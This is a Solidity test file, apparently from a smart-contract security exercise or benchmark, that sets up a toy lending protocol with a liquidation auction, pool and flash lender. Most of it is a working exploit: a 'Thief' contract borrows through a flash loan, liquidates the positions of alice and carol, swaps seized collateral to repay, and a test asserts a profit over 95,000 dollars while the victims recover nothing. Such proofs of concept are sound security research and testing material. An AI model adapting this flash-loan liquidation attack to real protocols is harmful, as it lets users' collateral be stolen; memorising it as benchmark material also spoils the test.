// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Coffer} from "../liquidation-overseize/src/Coffer.sol";
import {Gavel} from "../liquidation-overseize/src/Gavel.sol";
import {Feed, FlashLender, Pool, Token} from "../liquidation-overseize/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Coffer private immutable coffer;
    Gavel private immutable gavel;
    Pool private immutable pool;
    address[] private victims;

    constructor(Coffer coffer_, Pool pool_, address[] memory victims_) {
        coffer = coffer_;
        gavel = coffer_.gavel();
        pool = pool_;
        victims = victims_;
        coffer.dollar().approve(address(gavel), type(uint256).max);
        coffer.opal().approve(address(pool), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(coffer.dollar()), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        for (uint256 i; i < victims.length; ++i) gavel.take(coffer.bite(victims[i]), type(uint256).max, type(uint256).max);
        // No more than the loan needs: the rest is worth more than the pool pays.
        pool.swap(5749032884183719014174, true, amount + fee, address(this));
        coffer.dollar().approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract LiquidationOverseizeTest {
    event Profit(uint256 dollars);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private oracle = address(uint160(uint256(keccak256("heist actor oracle"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private dave = address(uint160(uint256(keccak256("heist actor dave"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    Token private opal;
    Token private dollar;
    Feed private feed;
    Coffer private coffer;
    Gavel private gavel;
    Pool private pool;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        opal = new Token("Opal", "OPL");
        vm.prank(admin);
        dollar = new Token("Dollar", "DLR");
        vm.prank(admin);
        feed = new Feed(8, 100e8, oracle);
        vm.prank(admin);
        coffer = new Coffer(opal, dollar, feed);
        vm.prank(admin);
        gavel = new Gavel(address(coffer), opal, dollar);
        vm.prank(admin);
        coffer.setGavel(gavel);
        vm.prank(admin);
        dollar.transferOwnership(address(coffer));
        vm.prank(admin);
        pool = new Pool(opal, dollar);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        opal.mint(alice, 4500 ether);
        vm.prank(admin);
        opal.mint(carol, 3000 ether);
        vm.prank(admin);
        opal.mint(bob, 20000 ether);
        vm.prank(admin);
        opal.mint(dave, 360000 ether);
        vm.prank(admin);
        opal.mint(attacker, 100 ether);
        vm.prank(alice);
        opal.approve(address(coffer), 1e60);
        vm.prank(alice);
        opal.approve(address(pool), 1e60);
        vm.prank(bob);
        opal.approve(address(coffer), 1e60);
        vm.prank(bob);
        opal.approve(address(pool), 1e60);
        vm.prank(carol);
        opal.approve(address(coffer), 1e60);
        vm.prank(carol);
        opal.approve(address(pool), 1e60);
        vm.prank(dave);
        opal.approve(address(coffer), 1e60);
        vm.prank(dave);
        opal.approve(address(pool), 1e60);
        vm.prank(attacker);
        opal.approve(address(coffer), 1e60);
        vm.prank(attacker);
        opal.approve(address(pool), 1e60);
        vm.prank(alice);
        dollar.approve(address(coffer), 1e60);
        vm.prank(alice);
        dollar.approve(address(gavel), 1e60);
        vm.prank(alice);
        dollar.approve(address(pool), 1e60);
        vm.prank(bob);
        dollar.approve(address(coffer), 1e60);
        vm.prank(bob);
        dollar.approve(address(gavel), 1e60);
        vm.prank(bob);
        dollar.approve(address(pool), 1e60);
        vm.prank(carol);
        dollar.approve(address(coffer), 1e60);
        vm.prank(carol);
        dollar.approve(address(gavel), 1e60);
        vm.prank(carol);
        dollar.approve(address(pool), 1e60);
        vm.prank(dave);
        dollar.approve(address(coffer), 1e60);
        vm.prank(dave);
        dollar.approve(address(gavel), 1e60);
        vm.prank(dave);
        dollar.approve(address(pool), 1e60);
        vm.prank(attacker);
        dollar.approve(address(coffer), 1e60);
        vm.prank(attacker);
        dollar.approve(address(gavel), 1e60);
        vm.prank(attacker);
        dollar.approve(address(pool), 1e60);
        vm.prank(alice);
        coffer.lock(4000 ether);
        vm.prank(alice);
        coffer.draw(240000 ether);
        vm.prank(carol);
        coffer.lock(3000 ether);
        vm.prank(carol);
        coffer.draw(172000 ether);
        vm.prank(bob);
        coffer.lock(15000 ether);
        vm.prank(bob);
        coffer.draw(600000 ether);
        vm.prank(dave);
        coffer.lock(255000 ether);
        vm.prank(dave);
        coffer.draw(13000000 ether);
        vm.prank(dave);
        dollar.transfer(address(lender), 3500000 ether);
        vm.prank(dave);
        dollar.transfer(attacker, 10000 ether);
        vm.roll(block.number + 7200);
        vm.warp(block.timestamp + 1 days);
        vm.prank(oracle);
        feed.setPrice(85e8);
        vm.prank(dave);
        pool.addLiquidity(100000 ether, 8500000 ether, dave);
    }

    function test_attack_pays() public {
        address[] memory victims = new address[](2);
        (victims[0], victims[1]) = (alice, carol);
        vm.prank(attacker);
        Thief thief = new Thief(coffer, pool, victims);
        vm.prank(attacker);
        dollar.transfer(address(thief), 5_000 ether);
        uint256 opals = opal.balanceOf(alice);
        // See liquidation-overseize/optimum.md.
        thief.attack(lender, 460_560 ether);
        uint256 profit = dollar.balanceOf(address(thief)) + opal.balanceOf(address(thief)) * 85 - 5_000 ether;
        emit Profit(profit);
        require(profit > 95_000 ether, "no profit");
        require(opal.balanceOf(alice) == opals, "the victim got something back");
    }
}
